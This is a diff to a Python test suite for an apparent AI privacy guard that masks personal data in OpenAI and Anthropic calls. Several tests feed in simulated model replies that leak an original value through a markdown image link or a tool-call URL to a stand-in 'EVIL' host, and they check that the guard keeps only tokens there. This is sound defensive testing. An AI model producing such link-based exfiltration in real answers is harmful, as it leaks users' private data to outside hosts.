@@ -20,7 +20,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import aiguard
-from _sdk_policy import openai_and_anthropic_policy
+from _sdk_policy import one_event, openai_and_anthropic_policy, openai_client
 from aiguard.doors.streaming import TokenRestorer
 from aiguard.testing import (
     Answer,
@@ -195,25 +195,9 @@ def _policy(restore_in_links: bool = False, **changes: Any) -> aiguard.Policy:
     return policy.model_copy(update={"destinations": destinations, **changes})
 
 
-def _openai(guard: aiguard.Guard, fake: FakeModel) -> Any:
-    return openai.OpenAI(
-        http_client=guard.http_client(transport=fake.transport),
-        base_url="https://api.openai.com/v1",
-        api_key="test",
-        max_retries=0,
-    )
-
-
-def _one_event(sink: InMemorySink) -> dict[str, Any]:
-    calls = sink.calls()
-    assert len(calls) == 1, calls
-    assert_chain_valid(sink)
-    return calls[0]
-
-
-def _ask_openai(guard: aiguard.Guard, fake: FakeModel, stream: bool) -> str:
+def _askopenai_client(guard: aiguard.Guard, fake: FakeModel, stream: bool) -> str:
     """One chat call as the caller's subject; the answer's text, whole or streamed."""
-    client = _openai(guard, fake)
+    client = openai_client(guard, fake)
     messages: Any = [{"role": "user", "content": QUESTION}]
     with guard.context(subject="cust-42", purpose="inference"):
         if not stream:
@@ -234,9 +218,9 @@ def test_openai_chat_keeps_the_token_in_an_image_link(chunk_size: int | None) ->
     sink = InMemorySink()
     guard = aiguard.Guard(_policy(), sinks=[sink])
     fake = FakeModel(reply=_exfiltrating, chunk_size=chunk_size or 4)
-    answer = _ask_openai(guard, fake, stream=chunk_size is not None)
+    answer = _askopenai_client(guard, fake, stream=chunk_size is not None)
     _link_kept(answer)
-    event = _one_event(sink)
+    event = one_event(sink)
     assert event["links_kept"] == 1 and event["status"] == "ok"
 
 
@@ -260,7 +244,7 @@ def test_anthropic_keeps_the_token_in_an_image_link(stream: bool) -> None:
         else:
             answer = client.messages.create(**kwargs).content[0].text
     _link_kept(answer)
-    assert _one_event(sink)["links_kept"] == 1
+    assert one_event(sink)["links_kept"] == 1
 
 
 @pytest.mark.parametrize("stream", [False, True])
@@ -277,7 +261,7 @@ def test_tool_arguments_keep_a_url_token_and_restore_the_rest(stream: bool) -> N
     sink = InMemorySink()
     guard = aiguard.Guard(_policy(), sinks=[sink])
     fake = FakeModel(reply=reply, chunk_size=3)
-    client = _openai(guard, fake)
+    client = openai_client(guard, fake)
     with guard.context(subject="cust-42", purpose="inference"):
         messages = [{"role": "user", "content": QUESTION}]
         if stream:
@@ -293,7 +277,7 @@ def test_tool_arguments_keep_a_url_token_and_restore_the_rest(stream: bool) -> N
     arguments = json.loads(raw)
     assert arguments["to"] == ORIGINAL
     assert arguments["url"].startswith(f"{EVIL}/?q=[EMAIL_") and ORIGINAL not in arguments["url"]
-    assert _one_event(sink)["links_kept"] == 1
+    assert one_event(sink)["links_kept"] == 1
 
 
 @pytest.mark.parametrize("stream", [False, True])
@@ -301,9 +285,9 @@ def test_a_destination_may_restore_in_links(stream: bool) -> None:
     sink = InMemorySink()
     guard = aiguard.Guard(_policy(restore_in_links=True), sinks=[sink])
     fake = FakeModel(reply=_exfiltrating, chunk_size=3)
-    answer = _ask_openai(guard, fake, stream)
+    answer = _askopenai_client(guard, fake, stream)
     assert answer == f"![chart]({EVIL}/c.png?d={ORIGINAL}) Done, I wrote to {ORIGINAL}."
-    assert "links_kept" not in _one_event(sink)
+    assert "links_kept" not in one_event(sink)
 
 
 def test_realistic_surrogates_in_a_link_stay_surrogates() -> None:
@@ -320,7 +304,7 @@ def test_realistic_surrogates_in_a_link_stay_surrogates() -> None:
         return f"![c]({EVIL}/?d={surrogate}) Wrote to {surrogate} ."
 
     for stream in (False, True):
-        answer = _ask_openai(guard, FakeModel(reply=reply, chunk_size=5), stream)
+        answer = _askopenai_client(guard, FakeModel(reply=reply, chunk_size=5), stream)
         link, prose = answer.split(") ", 1)
         # Streamed, the surrogate stays; whole, the answer reads it as its token first.
         assert ORIGINAL not in link, answer
@@ -353,7 +337,7 @@ def test_a_call_that_kept_links_raises_one_alert_per_window() -> None:
     sink = InMemorySink()
     guard = aiguard.Guard(_policy(), sinks=[sink])
     fake = FakeModel(reply=_exfiltrating)
-    client = _openai(guard, fake)
+    client = openai_client(guard, fake)
     with guard.context(subject="cust-42", purpose="inference", principal="agent-7"):
         for _ in range(3):
             client.chat.completions.create(
@@ -371,7 +355,7 @@ def test_a_call_that_kept_links_raises_one_alert_per_window() -> None:
     quiet = InMemorySink()
     guard = aiguard.Guard(off, sinks=[quiet])
     with guard.context(subject="cust-42", purpose="inference"):
-        _openai(guard, fake).chat.completions.create(
+        openai_client(guard, fake).chat.completions.create(
             model="gpt-4o", messages=[{"role": "user", "content": QUESTION}]
         )
     assert quiet.calls()[0]["links_kept"] == 1
@@ -397,7 +381,7 @@ def test_the_async_client_keeps_the_token_in_an_image_link() -> None:
             return "".join([c.choices[0].delta.content or "" async for c in stream if c.choices])
 
     _link_kept(asyncio.run(ask()))
-    assert _one_event(sink)["links_kept"] == 1
+    assert one_event(sink)["links_kept"] == 1
 
 
 def test_the_gateway_keeps_the_token_in_an_image_link() -> None:
@@ -448,7 +432,7 @@ def test_a_vault_that_fails_while_a_link_token_is_looked_up_fails_the_answer(
         guard.context(subject="cust-42", purpose="inference", conversation="c-1"),
         pytest.raises(aiguard.VaultError) as caught,
     ):
-        _openai(guard, fake).chat.completions.create(
+        openai_client(guard, fake).chat.completions.create(
             model="gpt-4o", messages=[{"role": "user", "content": "and now?"}]
         )
     assert ORIGINAL not in str(caught.value) and "vault" in str(caught.value)
